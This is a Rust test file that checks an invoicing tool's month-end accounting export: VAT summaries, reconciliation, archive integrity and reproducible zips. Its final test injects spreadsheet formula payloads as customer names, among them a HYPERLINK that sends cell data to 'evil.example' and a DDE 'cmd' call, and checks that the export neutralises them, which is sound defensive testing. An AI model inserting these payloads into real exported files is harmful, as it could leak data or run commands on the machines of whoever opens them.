//! Month-end export on the samples: exact journal and VAT summary rows, files copied byte
//! for byte, totals that tie out, reproducible zip, missing documents reported.

mod archive_support;
use archive_support::{ok, run, samples};

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::str::FromStr;

use rust_decimal::Decimal;

/// CSV rows as maps from header to value.
fn rows(path: &Path) -> Vec<BTreeMap<String, String>> {
    let mut r = csv::Reader::from_path(path).unwrap();
    let headers = r.headers().unwrap().clone();
    r.records().map(|rec| headers.iter().zip(rec.unwrap().iter()).map(|(h, v)| (h.to_string(), v.to_string())).collect()).collect()
}

fn d(s: &str) -> Decimal {
    Decimal::from_str(s).unwrap()
}

struct Exported {
    _tmp: tempfile::TempDir,
    archive: PathBuf,
    out: PathBuf,
}

fn issue_and_export(data: &Path, period: &[&str]) -> Exported {
    let tmp = tempfile::tempdir().unwrap();
    let archive = tmp.path().join("archive");
    let out = tmp.path().join("export");
    ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
    let mut args = vec!["export"];
    args.extend(period);
    args.extend(["--archive", archive.to_str().unwrap(), "--data", data.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    ok(run(&args));
    Exported { _tmp: tmp, archive, out }
}

#[test]
fn journal_rows_are_exact_and_credit_notes_negative() {
    let e = issue_and_export(&samples(), &["--month", "2026-10"]);
    let journal = rows(&e.out.join("journal.csv"));
    assert_eq!(journal.len(), 18);
    let rc = journal.iter().find(|r| r["number"] == "KL-INV-2026-000005").unwrap();
    assert_eq!((rc["treatment"].as_str(), rc["net"].as_str(), rc["vat"].as_str(), rc["gross"].as_str()), ("reverse_charge", "1200.00", "0.00", "1200.00"));
    assert_eq!(rc["customer_vat_id"], "IT00743110157");
    let cn = journal.iter().find(|r| r["number"] == "KL-CN-2026-000001").unwrap();
    assert_eq!((cn["type"].as_str(), cn["net"].as_str(), cn["vat"].as_str(), cn["gross"].as_str()), ("credit_note", "-24.19", "-5.81", "-30.00"));
    assert_eq!(cn["references"], "KL-INV-2026-000002");
    // The USD invoice with French VAT: its VAT stated in EUR.
    let usd = journal.iter().find(|r| r["number"] == "KL-INV-2026-000003").unwrap();
    assert_eq!((usd["currency"].as_str(), usd["vat"].as_str(), usd["base_currency"].as_str()), ("USD", "3.60", "EUR"));
    let doc: serde_json::Value = serde_json::from_slice(&fs::read(e.archive.join("2026/KL-INV-2026-000003.json")).unwrap()).unwrap();
    assert_eq!(usd["vat_base_currency"], doc["base_currency_tax"]["tax_amount"].as_str().unwrap());
}

#[test]
fn totals_tie_out_between_documents_journal_and_summary() {
    let e = issue_and_export(&samples(), &["--month", "2026-10"]);
    let journal = rows(&e.out.join("journal.csv"));
    // Journal sums per currency = journal-totals = the documents' own totals.
    let mut per_currency: BTreeMap<String, (Decimal, Decimal)> = BTreeMap::new();
    for r in &journal {
        let t = per_currency.entry(r["currency"].clone()).or_default();
        t.0 += d(&r["net"]);
        t.1 += d(&r["vat"]);
        let doc: serde_json::Value = serde_json::from_slice(&fs::read(e.archive.join(format!("2026/{}.json", r["number"]))).unwrap()).unwrap();
        let sign = if r["type"] == "credit_note" { -Decimal::ONE } else { Decimal::ONE };
        assert_eq!(d(&r["gross"]), d(doc["totals"]["gross"].as_str().unwrap()) * sign);
    }
    for t in rows(&e.out.join("journal-totals.csv")) {
        assert_eq!((d(&t["net"]), d(&t["vat"])), per_currency[&t["currency"]], "{}", t["currency"]);
    }
    // EU VAT in the summary = the journal's, per currency: domestic VAT in the base currency
    // (the invoices' Art. 230 statements), the OSS in each document's own currency (the OSS
    // return converts at the ECB rate of the quarter's last day, Art. 369h(2)).
    let mut journal_eu_vat: BTreeMap<String, Decimal> = BTreeMap::new();
    for r in &journal {
        match r["treatment"].as_str() {
            "domestic" => *journal_eu_vat.entry(r["base_currency"].clone()).or_default() += d(&r["vat_base_currency"]),
            "oss" => *journal_eu_vat.entry(r["currency"].clone()).or_default() += d(&r["vat"]),
            _ => {}
        }
    }
    let mut summary_eu_vat: BTreeMap<String, Decimal> = BTreeMap::new();
    for r in rows(&e.out.join("vat-summary.csv")).iter().filter(|r| ["domestic", "oss", "oss_corrections"].contains(&r["section"].as_str())) {
        *summary_eu_vat.entry(r["currency"].clone()).or_default() += d(&r["tax_amount"]);
    }
    assert_eq!(journal_eu_vat, summary_eu_vat);
    // Exact OSS rows: Germany 19 % (two invoices), Poland 23 % in złoty, as invoiced.
    let summary = rows(&e.out.join("vat-summary.csv"));
    let de = summary.iter().find(|r| r["section"] == "oss" && r["country"] == "DE").unwrap();
    assert_eq!((de["tax_rate"].as_str(), de["taxable_amount"].as_str(), de["tax_amount"].as_str(), de["documents"].as_str()), ("19", "31.30", "5.94", "2"));
    let pl = summary.iter().find(|r| r["section"] == "oss" && r["country"] == "PL").unwrap();
    let invoice = journal.iter().find(|r| r["treatment"] == "oss" && r["currency"] == "PLN").unwrap();
    assert_eq!((pl["currency"].as_str(), pl["taxable_amount"].as_str(), pl["tax_amount"].as_str()), ("PLN", invoice["net"].as_str(), invoice["vat"].as_str()));
}

#[test]
fn documents_are_copied_byte_for_byte_and_the_zip_is_reproducible() {
    let e = issue_and_export(&samples(), &["--month", "2026-10"]);
    let logo = format!("logo/{}", invoicesmith::sha256::Sha256Sum::of(&fs::read(samples().join("logo.svg")).unwrap()));
    assert_eq!(rows(&e.out.join("manifest.csv")).iter().filter(|m| m["path"].starts_with("logo/")).map(|m| m["path"].clone()).collect::<Vec<_>>(), [logo]);
    for m in rows(&e.out.join("manifest.csv")) {
        let bytes = fs::read(e.out.join(&m["path"])).unwrap();
        assert_eq!(invoicesmith::sha256::Sha256Sum::of(&bytes).to_string(), m["sha256"], "{}", m["path"]);
        // Documents from the year's folder; the logo their records name, as the archive keeps it.
        let archived = match m["path"].strip_prefix("documents/") {
            Some(name) => e.archive.join("2026").join(name),
            None => e.archive.join(&m["path"]),
        };
        assert_eq!(bytes, fs::read(archived).unwrap(), "{}", m["path"]);
    }
    let second = e.out.with_file_name("export2");
    ok(run(&["export", "--month", "2026-10", "--archive", e.archive.to_str().unwrap(), "--data", samples().to_str().unwrap(), "--out", second.to_str().unwrap()]));
    assert!(fs::read(e.out.with_extension("zip")).unwrap() == fs::read(second.with_extension("zip")).unwrap(), "two exports differ");
}

#[test]
fn the_zip_holds_exactly_the_folders_files_read_back_by_another_zip_implementation() {
    let e = issue_and_export(&samples(), &["--month", "2026-10"]);
    let mut zip = zip::ZipArchive::new(fs::File::open(e.out.with_extension("zip")).unwrap()).unwrap();
    let mut in_zip = Vec::new();
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().to_string();
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut entry, &mut bytes).unwrap(); // checks the CRC-32
        assert_eq!(bytes, fs::read(e.out.join(&name)).unwrap(), "{name} differs from the folder's file");
        // PDFs are compressed already and stored; text is deflated.
        let method = if name.ends_with(".pdf") { zip::CompressionMethod::Stored } else { zip::CompressionMethod::Deflated };
        assert_eq!(entry.compression(), method, "{name}");
        assert_eq!(entry.unix_mode(), Some(0o100644), "{name}");
        let modified = entry.last_modified().unwrap();
        assert_eq!((modified.year(), modified.month(), modified.day(), modified.hour()), (2026, 10, 1, 0), "{name}");
        in_zip.push(name);
    }
    let mut in_folder = Vec::new();
    let folders = ["documents", "datev", "xero", "quickbooks", "logo"].map(|f| fs::read_dir(e.out.join(f)).unwrap());
    for entry in fs::read_dir(&e.out).unwrap().chain(folders.into_iter().flatten()) {
        let path = entry.unwrap().path();
        if path.is_file() {
            in_folder.push(path.strip_prefix(&e.out).unwrap().to_string_lossy().replace('\\', "/"));
        }
    }
    in_folder.sort();
    assert_eq!(in_zip, in_folder, "the zip lists the folder's files, sorted");
    assert_eq!(in_zip.iter().filter(|n| n.starts_with("documents/")).count(), 18 * 5);
}

#[test]
fn a_missing_invoice_is_listed_loudly_and_fails_the_export() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    fs::create_dir_all(&data).unwrap();
    for f in ["company.toml", "customers.csv", "transactions.csv", "exchange_rates.csv", "logo.svg"] {
        fs::copy(samples().join(f), data.join(f)).unwrap();
    }
    let archive = tmp.path().join("archive");
    ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
    let mut csv = fs::read_to_string(data.join("transactions.csv")).unwrap();
    csv.push_str("ch_9001,charge,succeeded,cus_de_01,2026-10-30T10:00:00+01:00,EUR,Pro plan (monthly),1,14.99,gross,false,,,,,DE,DE\n");
    fs::write(data.join("transactions.csv"), csv).unwrap();
    let out = tmp.path().join("export");
    let o = run(&["export", "--month", "2026-10", "--archive", archive.to_str().unwrap(), "--data", data.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&o.stderr).contains("ch_9001: succeeded in the payment history but has no document"));
    let rec = rows(&out.join("reconciliation.csv"));
    let row = rec.iter().find(|r| r["transaction_id"] == "ch_9001").unwrap();
    assert_eq!(row["outcome"], "missing");
    let dup = rec.iter().find(|r| r["transaction_id"] == "du_1014").unwrap();
    assert_eq!((dup["outcome"].as_str(), dup["detail"].as_str()), ("no_document", "duplicate of ch_1010"));
    assert_eq!(rec.iter().find(|r| r["transaction_id"] == "rf_1016").unwrap()["documents"], "KL-CN-2026-000001");
}

/// A duplicate charge that no refund has returned by the period's end is owed back to the
/// customer: its own outcome, not `no_document` like a refunded one.
#[test]
fn a_duplicate_charge_not_refunded_is_flagged_as_owed_back() {
    let tmp = tempfile::tempdir().unwrap();
    let data = samples_with(tmp.path(), "", |t| t);
    let csv = fs::read_to_string(data.join("transactions.csv")).unwrap();
    let without: String = csv.lines().filter(|l| !l.starts_with("rf_1015,")).map(|l| format!("{l}\n")).collect();
    fs::write(data.join("transactions.csv"), without).unwrap();
    let archive = tmp.path().join("archive");
    ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
    let out = tmp.path().join("export");
    ok(run(&["export", "--month", "2026-10", "--archive", archive.to_str().unwrap(), "--data", data.to_str().unwrap(), "--out", out.to_str().unwrap()]));
    let rec = rows(&out.join("reconciliation.csv"));
    let dup = rec.iter().find(|r| r["transaction_id"] == "du_1014").unwrap();
    assert_eq!(
        (dup["outcome"].as_str(), dup["amount"].as_str(), dup["detail"].as_str()),
        ("not_refunded", "14.99", "duplicate of ch_1010, not refunded by 2026-10-31: owed back to the customer")
    );
}

/// The reconciliation gives what moved: a charge priced net (115.00 + EE 24 %) was charged
/// its invoice's 142.60, which the payout matches; a transfer invoice of 300.00 + 24 % is
/// 372.00 in both its rows.
#[test]
fn a_net_priced_charge_is_reconciled_at_what_was_charged() {
    let e = issue_and_export(&samples(), &["--month", "2026-10"]);
    let rec = rows(&e.out.join("reconciliation.csv"));
    let amounts = |id: &str| rec.iter().filter(|r| r["transaction_id"] == id).map(|r| r["amount"].clone()).collect::<Vec<_>>();
    assert_eq!(amounts("ch_1004"), ["142.60"]);
    assert_eq!(amounts("ch_1023"), ["372.00", "372.00"]);
    // A charge priced gross is its own amount; a failed one, never invoiced, as written.
    assert_eq!(amounts("ch_1001"), ["14.99"]);
}

/// (section, country, rate, detail, taxable, tax, documents) of every summary row.
fn summary_rows(out: &Path) -> Vec<(String, String, String, String, String, String, String)> {
    rows(&out.join("vat-summary.csv"))
        .into_iter()
        .map(|r| {
            let f = |k: &str| r[k].clone();
            (f("section"), f("country"), f("tax_rate"), f("detail"), f("taxable_amount"), f("tax_amount"), f("documents"))
        })
        .collect()
}

fn row(section: &str, country: &str, rate: &str, detail: &str, taxable: &str, tax: &str, documents: &str) -> (String, String, String, String, String, String, String) {
    (section.into(), country.into(), rate.into(), detail.into(), taxable.into(), tax.into(), documents.into())
}

/// A copy of the samples with `rows` appended to transactions.csv and `company` edited.
fn samples_with(tmp: &Path, rows: &str, company: impl Fn(String) -> String) -> PathBuf {
    let data = tmp.join("data");
    fs::create_dir_all(&data).unwrap();
    for f in ["company.toml", "customers.csv", "transactions.csv", "exchange_rates.csv", "logo.svg"] {
        fs::copy(samples().join(f), data.join(f)).unwrap();
    }
    let csv = fs::read_to_string(data.join("transactions.csv")).unwrap();
    fs::write(data.join("transactions.csv"), csv + rows).unwrap();
    let toml = fs::read_to_string(data.join("company.toml")).unwrap();
    fs::write(data.join("company.toml"), company(toml)).unwrap();
    data
}

fn export(archive: &Path, period: &[&str], out: &Path) {
    let mut args = vec!["export"];
    args.extend(period);
    args.extend(["--archive", archive.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    ok(run(&args));
}

#[test]
fn oss_corrections_are_attributed_to_the_quarter_of_the_supply() {
    // The October German invoice ch_1001 (14.99 at 19 %, of which 7.74 is adjusted by the
    // plan change ch_1011) is refunded 5.95 in November and 1.19 in January 2027: 19 % of
    // 5.95 gross is 0.95, of 1.19 is 0.19.
    let tmp = tempfile::tempdir().unwrap();
    let data = samples_with(tmp.path(), "\
rf_9002,refund,succeeded,cus_de_01,2026-11-03T10:00:00+01:00,EUR,Refund,1,5.95,gross,false,,,ch_1001,requested_by_customer,DE,DE
rf_9003,refund,succeeded,cus_de_01,2027-01-12T10:00:00+01:00,EUR,Refund,1,1.19,gross,false,,,ch_1001,requested_by_customer,DE,DE
", |t| t);
    let archive = tmp.path().join("archive");
    ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
    // November is in the invoice's quarter: an ordinary (negative) OSS row, in a monthly export too.
    let nov = tmp.path().join("2026-11");
    export(&archive, &["--month", "2026-11"], &nov);
    assert_eq!(summary_rows(&nov), [row("oss", "DE", "19", "", "-5.00", "-0.95", "1")]);
    // January 2027 corrects the return of 2026-Q4, whether exported by month or by quarter.
    for (period, name) in [(["--month", "2027-01"], "2027-01"), (["--quarter", "2027-Q1"], "2027-Q1")] {
        let out = tmp.path().join(name);
        export(&archive, &period, &out);
        assert_eq!(summary_rows(&out), [row("oss_corrections", "DE", "19", "2026-Q4", "-1.00", "-0.19", "1")], "{name}");
    }
}

/// Swiss customers writing French and German get documents naming the tax TVA and MWST; the
/// return is one: one row per rate, under the tax's one name. 10.81 CHF gross at 8.1 % is
/// 10.00 + 0.81, twice.
#[test]
fn a_non_eu_registrations_rows_name_its_tax_once_whatever_the_customers_language() {
    let tmp = tempfile::tempdir().unwrap();
    let data = samples_with(tmp.path(), "\
ch_9101,charge,succeeded,cus_ch_fr,2026-11-03T10:00:00+01:00,CHF,Pro plan,1,10.81,gross,false,,,,,CH,CH
ch_9102,charge,succeeded,cus_ch_de,2026-11-04T10:00:00+01:00,CHF,Pro plan,1,10.81,gross,false,,,,,CH,CH
", |t| t);
    let customers = fs::read_to_string(data.join("customers.csv")).unwrap();
    fs::write(
        data.join("customers.csv"),
        customers
            + "cus_ch_fr,individual,Luc Favre,luc.favre@example.ch,Rue du Rhône 1,,Genève,1204,,CH,,,fr\n\
               cus_ch_de,individual,Anna Keller,anna.keller@example.ch,Bahnhofstrasse 1,,Zürich,8001,,CH,,,de\n",
    )
    .unwrap();
    let archive = tmp.path().join("archive");
    ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
    let out = tmp.path().join("2026-11");
    export(&archive, &["--month", "2026-11"], &out);
    assert_eq!(summary_rows(&out), [row("non_eu_registrations", "CH", "8.1", "MWST", "20.00", "1.62", "2")]);
    // A Swiss sale invoiced in euros is declared in francs too, at its tax point's rate:
    // 108.10 EUR is 100.00 + 8.10, at 1 EUR = 0.94 CHF 94.00 + 7.61; one CHF row.
    let mut csv = fs::read_to_string(data.join("transactions.csv")).unwrap();
    csv.push_str("ch_9103,charge,succeeded,cus_ch_de,2026-11-05T10:00:00+01:00,EUR,Pro plan,1,108.10,gross,false,,,,,CH,CH\n");
    fs::write(data.join("transactions.csv"), csv).unwrap();
    let mut rates = fs::read_to_string(data.join("exchange_rates.csv")).unwrap();
    rates.push_str("2026-11-04,EUR,CHF,0.9400,ECB\n");
    fs::write(data.join("exchange_rates.csv"), rates).unwrap();
    ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap()]));
    let out = tmp.path().join("2026-11-again");
    export(&archive, &["--month", "2026-11"], &out);
    let summary: Vec<(String, String)> = rows(&out.join("vat-summary.csv")).into_iter().map(|r| (r["currency"].clone(), format!("{} {} {}", r["taxable_amount"], r["tax_amount"], r["documents"]))).collect();
    assert_eq!(summary, [("CHF".to_string(), "114.00 9.23 3".to_string())]);
}

/// A correction (`reissue`) in November of an October domestic invoice: its cancelling credit
/// note and its replacement both count in November's return, the period the correction is
/// made in (Art. 90; EE KMS § 29(7)), where together they change nothing — the replacement is
/// not a new sale. KL-INV-2026-000004: 142.60 gross at EE 24 %, 115.00 + 27.60.
/// The samples issued, then `number` corrected (its customer moved) on 5 November 2026:
/// the folder, the data, the archive and the replacement's number.
fn reissued_in_november(number: &str) -> (tempfile::TempDir, PathBuf, PathBuf, String) {
    let tmp = tempfile::tempdir().unwrap();
    let data = samples_with(tmp.path(), "", |t| t);
    let archive = tmp.path().join("archive");
    ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
    let correction = invoicesmith::issue::correct::Correction { set: vec![("city".into(), "Tartu".into())], reason: "moved".into(), date: None, received: None };
    let now = chrono::DateTime::parse_from_rfc3339("2026-11-05T10:00:00Z").unwrap().to_utc();
    // With the data folder, as support runs it (a transfer invoice needs what was received).
    let report = invoicesmith::app::run_reissue(&invoicesmith::archive::Archive::open(&archive), number, &correction, now, None, Some(&data)).unwrap();
    let replacement = report.issued.iter().map(|d| d.number().to_string()).find(|n| n.starts_with("KL-INV")).unwrap();
    (tmp, data, archive, replacement)
}

#[test]
fn a_domestic_reissue_nets_to_nothing_in_the_period_it_is_made() {
    let (tmp, _, archive, _) = reissued_in_november("KL-INV-2026-000004");
    let out = tmp.path().join("2026-11");
    export(&archive, &["--month", "2026-11"], &out);
    assert_eq!(summary_rows(&out), [row("domestic", "EE", "24", "", "0.00", "0.00", "2")]);
}

/// A bank-transfer invoice corrected by `reissue` is owed once: by its replacement. The
/// original, cancelled, leaves the reconciliation's list of transfer invoices (it was listed
/// beside its replacement, the 372.00 owed twice).
#[test]
fn a_replaced_bank_transfer_invoice_is_owed_once_by_its_replacement() {
    // KL-INV-2026-000016: ch_1023, 372.00 EUR by transfer, not yet paid.
    let (tmp, data, archive, replacement) = reissued_in_november("KL-INV-2026-000016");
    let out = tmp.path().join("2026-11");
    ok(run(&["export", "--month", "2026-11", "--archive", archive.to_str().unwrap(), "--data", data.to_str().unwrap(), "--out", out.to_str().unwrap()]));
    let owed: Vec<(String, String, String)> = rows(&out.join("reconciliation.csv"))
        .into_iter()
        .filter(|r| r["transaction_id"] == "ch_1023")
        .map(|r| (r["documents"].clone(), r["outcome"].clone(), r["amount"].clone()))
        .collect();
    // Issued 5 November, due 14 days later: overdue on 30 November.
    assert_eq!(owed, [(replacement, "overdue".to_string(), "372.00".to_string())]);
}

/// The reconciliation tells what became of each invoice, as it stood at the period's end: a
/// month re-exported after a later correction names no later document; a transfer invoice
/// that a replacement took over once the transfer had paid it is listed as paid, by that
/// replacement; a plan change's credit is not called a cancellation.
#[test]
fn the_reconciliation_tells_each_invoice_as_it_stood_at_the_periods_end() {
    // KL-INV-2026-000015: ch_1021, 4,800.00 by transfer, paid by pm_1022 on 30 October;
    // corrected on 5 November.
    let (tmp, data, archive, replacement) = reissued_in_november("KL-INV-2026-000015");
    let reconciliation = |month: &str| {
        let out = tmp.path().join(month);
        ok(run(&["export", "--month", month, "--archive", archive.to_str().unwrap(), "--data", data.to_str().unwrap(), "--out", out.to_str().unwrap()]));
        rows(&out.join("reconciliation.csv"))
    };
    let october = reconciliation("2026-10");
    let of = |rows: &[BTreeMap<String, String>], id: &str| -> Vec<(String, String, String)> {
        rows.iter().filter(|r| r["transaction_id"] == id).map(|r| (r["outcome"].clone(), r["documents"].clone(), r["detail"].clone())).collect()
    };
    let row3 = |a: &str, b: &str, c: &str| (a.to_string(), b.to_string(), c.to_string());
    assert_eq!(
        of(&october, "ch_1021"),
        [
            row3("invoiced", "KL-INV-2026-000015", "bank transfer: invoiced before it is paid"),
            row3("paid", "KL-INV-2026-000015", "4800.00 EUR due 2026-11-11 on KL-INV-2026-000015; 4800.00 received by 2026-10-31"),
        ]
    );
    assert_eq!(of(&october, "ch_1001"), [row3("invoiced", "KL-INV-2026-000001", "KL-INV-2026-000001 partly credited by the plan change on KL-INV-2026-000011")]);
    let november = reconciliation("2026-11");
    assert_eq!(
        of(&november, "ch_1021"),
        [row3("paid", &replacement, &format!("4800.00 EUR due on KL-INV-2026-000015, replaced by {replacement} of 2026-11-05, which the transfers received had paid"))]
    );
}

/// A domestic credit note counts in the period it is made in, whatever the return period;
/// a supply invoiced after its return period ended (a payment recorded late: numbering never
/// dates an invoice before the series' last) is that period's, as the configured return
/// period cuts them.
#[test]
fn a_late_supply_belongs_to_its_return_period_a_credit_note_to_the_period_it_is_made_in() {
    // A November refund of 12.40 gross on the October Estonian invoice ch_1003 (EE 24 %):
    // 10.00 net, 2.40 VAT.
    let refund = "rf_9004,refund,succeeded,cus_ee_01,2026-11-04T10:00:00+02:00,EUR,Refund,1,12.40,gross,false,,,ch_1003,requested_by_customer,EE,EE\n";
    for period in ["month", "quarter"] {
        let tmp = tempfile::tempdir().unwrap();
        let data = samples_with(tmp.path(), refund, |t| t.replace("eu_oss = true", &format!("eu_oss = true\nvat_return_period = \"{period}\"")));
        let archive = tmp.path().join("archive");
        ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
        let out = tmp.path().join("2026-11");
        export(&archive, &["--month", "2026-11"], &out);
        assert_eq!(summary_rows(&out), [row("domestic", "EE", "24", "", "-10.00", "-2.40", "1")], "{period}");
    }
    // A 24.80 charge of 30 September recorded after October was issued: invoiced on 28
    // October (the series' last date), a supply of September (20.00 + 4.80; and of Q3, for
    // OSS: 14.99 to Germany at 19 %, 12.60 + 2.39).
    let late = "ch_9005,charge,succeeded,cus_ee_01,2026-09-30T18:00:00+03:00,EUR,Credit pack,1,24.80,gross,false,,,,,EE,EE\n\
                ch_9006,charge,succeeded,cus_de_01,2026-09-30T18:00:00+02:00,EUR,Credit pack,1,14.99,gross,false,,,,,DE,DE\n";
    for (period, domestic) in [("month", "2026-09"), ("quarter", "2026-Q3")] {
        let tmp = tempfile::tempdir().unwrap();
        let data = samples_with(tmp.path(), "", |t| t.replace("eu_oss = true", &format!("eu_oss = true\nvat_return_period = \"{period}\"")));
        let archive = tmp.path().join("archive");
        ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap(), "--init"]));
        let mut csv = fs::read_to_string(data.join("transactions.csv")).unwrap();
        csv.push_str(late);
        fs::write(data.join("transactions.csv"), csv).unwrap();
        ok(run(&["issue", data.to_str().unwrap(), "--archive", archive.to_str().unwrap()]));
        // September's reconciliation: the charge is invoiced (on 28 October), not missing.
        let september = tmp.path().join("september");
        ok(run(&["export", "--month", "2026-09", "--archive", archive.to_str().unwrap(), "--data", data.to_str().unwrap(), "--out", september.to_str().unwrap()]));
        let outcome: Vec<String> = rows(&september.join("reconciliation.csv")).into_iter().filter(|r| r["transaction_id"] == "ch_9005").map(|r| r["outcome"].clone()).collect();
        assert_eq!(outcome, ["invoiced"], "{period}");
        let out = tmp.path().join("late");
        export(&archive, &["--month", "2026-10"], &out);
        let rows: Vec<_> = summary_rows(&out).into_iter().filter(|r| r.0.ends_with("_corrections")).collect();
        assert_eq!(
            rows,
            [
                row("domestic_corrections", "EE", "24", domestic, "20.00", "4.80", "1"),
                row("oss_corrections", "DE", "19", "2026-Q3", "12.60", "2.39", "1"),
            ],
            "{period}"
        );
    }
}

#[test]
fn an_archived_file_changed_after_issuing_is_refused_and_nothing_is_exported() {
    let e = issue_and_export(&samples(), &["--month", "2026-10"]);
    let pdf = e.archive.join("2026").join("KL-INV-2026-000002.pdf");
    let mut perms = fs::metadata(&pdf).unwrap().permissions();
    #[allow(clippy::permissions_set_readonly_false)]
    perms.set_readonly(false);
    fs::set_permissions(&pdf, perms).unwrap();
    let mut bytes = fs::read(&pdf).unwrap();
    let last = bytes.len() - 1;
    bytes[last] ^= 0x20;
    fs::write(&pdf, bytes).unwrap();
    let out = e.out.with_file_name("export-after-tampering");
    let o = run(&["export", "--month", "2026-10", "--archive", e.archive.to_str().unwrap(), "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(3), "{}", String::from_utf8_lossy(&o.stderr));
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(
        stderr.contains("KL-INV-2026-000002.pdf: differs from the SHA-256 the register holds for it"),
        "{stderr}"
    );
    assert!(!out.exists(), "a half-written export folder was left");
    assert!(!out.with_extension("zip").exists(), "a half-written zip was left");
}

#[test]
fn text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_and_amounts_stay_numbers() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    fs::create_dir_all(&data).unwrap();
    for f in ["company.toml", "exchange_rates.csv", "logo.svg"] {
        fs::copy(samples().join(f), data.join(f)).unwrap();
    }
    // The issue's payloads as customer names (CSV-quoted in customers.csv) and a transaction id.
    let customers = fs::read_to_string(samples().join("customers.csv"))
        .unwrap()
        .replace("Jürgen Müller", r#""=HYPERLINK(""http://evil.example/?""&A1,""x"")""#)
        .replace("Élodie Durand", "+cmd|' /C calc'!A0")
        .replace("Mari Tamm", "-2+3")
        .replace("Põhjala Disain OÜ", "@SUM(1+1)");
    fs::write(data.join("customers.csv"), customers).unwrap();
    let transactions = fs::read_to_string(samples().join("transactions.csv")).unwrap().replace("\nch_1002,", "\n-ch_1002,");
    fs::write(data.join("transactions.csv"), transactions).unwrap();
    let e = issue_and_export(&data, &["--month", "2026-10"]);

    let journal = fs::read_to_string(e.out.join("journal.csv")).unwrap();
    let line = |number: &str| journal.lines().find(|l| l.starts_with(number)).unwrap().to_string();
    assert_eq!(
        line("KL-INV-2026-000001"),
        r#"KL-INV-2026-000001,invoice,2026-10-01,2026-10-01,cus_de_01,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",DE,,EUR,12.60,2.39,14.99,EUR,2.39,1,oss,DE,"#
    );
    // A credit note: the name neutralised, its negative amounts plain numbers.
    assert_eq!(
        line("KL-CN-2026-000001"),
        r#"KL-CN-2026-000001,credit_note,2026-10-20,2026-10-20,cus_ee_01,"'-2+3",EE,,EUR,-24.19,-5.81,-30.00,EUR,-5.81,1,domestic,EE,KL-INV-2026-000002"#
    );
    let names: Vec<String> = rows(&e.out.join("journal.csv")).into_iter().map(|r| r["customer_name"].clone()).collect();
    for name in [r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)"] {
        assert!(names.iter().any(|n| n == name), "{name} not in {names:?}");
    }
    assert!(names.iter().all(|n| !n.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{names:?}");
    let reconciliation = fs::read_to_string(e.out.join("reconciliation.csv")).unwrap();
    assert!(reconciliation.lines().any(|l| l.starts_with("\"'-ch_1002\",charge,succeeded,2026-10-04,USD,21.60,invoiced,")), "{reconciliation}");
    let totals = fs::read_to_string(e.out.join("journal-totals.csv")).unwrap();
    assert!(totals.lines().all(|l| !l.contains('\'')), "{totals}");
    // DATEV's Buchungstext (field 14) too; the names are ASCII, so CP1252 reads as Latin-1.
    let datev: String = fs::read(e.out.join("datev/EXTF_Buchungsstapel_2026-10.csv")).unwrap().iter().map(|&b| char::from(b)).collect();
    let texts: Vec<String> = datev.lines().skip(2).map(|l| l.split(';').nth(13).unwrap().trim_matches('"').replace("\"\"", "\"")).collect();
    for name in [r#"'=HYPERLINK("http://evil.example/?"&A1,"x")"#, "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1+1)"] {
        assert!(texts.iter().any(|t| t == name), "{name} not in {texts:?}");
    }
    assert!(texts.iter().all(|t| !t.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{texts:?}");
    assert!(texts.iter().any(|t| t.starts_with("Gutschrift zu KL-INV-2026-000002 -2+3")), "{texts:?}");
}
